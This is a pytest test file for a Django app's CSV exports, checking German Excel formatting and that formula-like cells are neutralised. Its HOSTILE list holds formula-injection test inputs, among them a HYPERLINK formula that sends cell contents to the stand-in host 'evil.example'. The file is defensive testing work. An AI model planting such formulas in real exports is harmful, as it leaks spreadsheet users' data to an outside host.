"""Every CSV export writes German Excel (BOM, ';') and no cell that Excel runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from fb15.csv_export import csv_response, neutralise
from tests.factories import ComplianceFactory, MeasureFactory, OrgUnitFactory, StandardFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1;"Klick")', "+1", "-1", "@SUM(A1:A9)"]


def read_csv(response) -> list[list[str]]:
    """The downloaded file as a spreadsheet program splits it; asserts the German dialect."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming, "exports are streamed row by row"
    raw = response.getvalue()
    assert raw.startswith("\ufeff".encode()), "UTF-8 byte order mark for Excel"
    text = raw.decode("utf-8-sig")
    assert ";" in text.splitlines()[0]
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize("title", HOSTILE)
def test_measure_export_neutralises_formula_titles(world, client_for, title):
    world["own"]["measure"].title = title
    world["own"]["measure"].save()
    rows = read_csv(client_for(world["strategist"]).get(reverse("measure_export")))
    titles = [row[1] for row in rows[1:]]
    assert "'" + title in titles
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("title", HOSTILE)
def test_project_export_neutralises_formula_titles(world, client_for, title):
    world["own"]["project"].title = title
    world["own"]["project"].save()
    response = client_for(world["strategist"]).get(reverse("project_export"))
    assert 'filename="Projekte.csv"' in response["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0][:2] == ["Kennung", "Titel"]
    assert "'" + title in [row[1] for row in rows[1:]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("title", HOSTILE)
def test_compliance_export_neutralises_formula_codes_and_titles(personas, client_for, title):
    code = title[:15]  # unit and standard codes are short
    unit = OrgUnitFactory(code=code, division=personas["unit32"].division)
    standard = StandardFactory(code="SW-09", title="Offene Formate")
    ComplianceFactory(unit=unit, standard=standard, state="fulfilled")
    hostile_standard = StandardFactory(code=code, title="Schnittstellen")
    ComplianceFactory(unit=unit, standard=hostile_standard, state="partial")
    response = client_for(personas["strategist"]).get(reverse("compliance_csv"))
    assert 'filename="einhaltung-' in response["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0][0] == "Fachbereich"
    assert "'" + code + " Schnittstellen" in rows[0]
    assert "'" + code in [row[0] for row in rows[1:]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_tab_and_carriage_return_are_neutralised_and_numbers_kept():
    assert neutralise("\tcmd") == "'\tcmd"
    assert neutralise("\rcmd") == "'\rcmd"
    assert neutralise("Bürgerportal = Zukunft") == "Bürgerportal = Zukunft"
    assert neutralise(None) == ""
    assert neutralise(-5) == -5  # a number is no formula


def test_filename_with_umlauts_is_offered_safely():
    response = csv_response("Maßnahmen.csv", ["a"], [])
    assert "filename*=utf-8''Ma%C3%9Fnahmen.csv" in response["Content-Disposition"]
    assert response.getvalue() == "\ufeffa\r\n".encode()


@pytest.mark.parametrize("count", [5, 200])
def test_measure_export_query_count_does_not_grow(
    world, client_for, django_assert_max_num_queries, count
):
    for _ in range(count):
        MeasureFactory(goal=world["goal"], owner=world["unit32"])
    client = client_for(world["lead32"])
    client.get(reverse("measure_export")).getvalue()  # warm the session's caches
    with django_assert_max_num_queries(12):
        rows = read_csv(client.get(reverse("measure_export")))
    assert len(rows) >= count + 1
